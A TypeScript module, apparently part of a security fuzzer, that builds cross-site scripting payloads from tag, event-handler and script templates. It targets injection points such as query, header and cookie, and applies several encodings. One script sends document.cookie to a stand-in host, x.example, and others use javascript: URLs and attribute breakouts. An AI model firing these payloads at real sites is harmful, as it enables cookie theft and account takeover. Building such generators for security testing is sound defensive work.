import type { Random } from '../../random.js';
import type { PayloadFamily } from '../payload-family.js';

const TAGS = ['img', 'svg', 'iframe', 'body', 'details', 'video', 'input'];
const EVENTS = ['onerror', 'onload', 'onmouseover', 'onfocus', 'ontoggle'];
const SCRIPTS = [
  'alert(1)',
  'alert(document.domain)',
  'confirm`1`',
  'prompt(document.cookie)',
  'fetch(`//x.example/`+document.cookie)',
];

const handler = (r: Random) => `${r.pick(EVENTS)}=${r.pick(SCRIPTS)}`;

/** Cross-site scripting: script elements, event handlers, attribute breakouts, javascript: URLs. */
export const XSS: PayloadFamily = {
  name: 'xss',
  summary: 'cross-site scripting: script tags, event handlers, attribute breakouts, javascript: URLs',
  templates: [
    (r) => `<script>${r.pick(SCRIPTS)}</script>`,
    (r) => `<${r.pick(TAGS)} src=x ${handler(r)}>`,
    (r) => `"><${r.pick(TAGS)} ${handler(r)}>`,
    (r) => `javascript:${r.pick(SCRIPTS)}`,
    (r) => `<a href="javascript:${r.pick(SCRIPTS)}">${r.word(4)}</a>`,
    (r) => `<svg/onload=${r.pick(SCRIPTS)}>`,
    (r) => `'-${r.pick(SCRIPTS)}-'`,
  ],
  points: ['query', 'path', 'form', 'json', 'header', 'cookie'],
  encodings: ['plain', 'url', 'double-url', 'mixed-case'],
};
